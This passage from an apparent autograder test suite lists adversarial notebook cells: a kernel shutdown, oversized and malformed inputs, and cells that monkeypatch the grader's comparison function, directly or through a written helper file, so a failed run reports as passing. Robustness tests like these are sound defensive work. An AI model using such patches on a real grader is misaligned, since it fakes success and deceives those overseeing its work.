get_ipython().kernel.do_shutdown(True)
exit()
""",
    alone=True,
)

# Cells that cannot be read

SHAPES = "odd cells"
attack(
    SHAPES,
    "a magic hides a forged report",
    """%%capture
import autograder.calling.local
autograder.calling.local._differs = lambda before, after: False
""",
    alone=True,
    did="",
)
attack(
    SHAPES,
    "a magic without its sign runs a file",
    """
with open("helper.py", "w") as file:
    file.write("import autograder.calling.local as s\\ns._differs = lambda before, after: False\\nprint('did: True')")
""",
    answers={"merge_heads": "run helper.py"},
    alone=True,
)
attack(SHAPES, "a bash cell, a cell of 190000 characters, null bytes, deep brackets", "%%bash\necho did: True\n")
attack(SHAPES, "a cell of 190000 characters", "x = '" + "a" * 190_000 + "'\nprint('did: True')\n")
attack(SHAPES, "a cell of 700 magics", "%time 1\n" * 700, did="")
attack(SHAPES, "a cell of 30000 terms", "print('did: True') if 0 else " + "+".join(["1"] * 30_000), did="")
attack(SHAPES, "a null byte", "x = 1\0", did="")
attack(SHAPES, "syntax that another cell has switched on", "from __future__ import barry_as_FLUFL\nprint('did: True')")
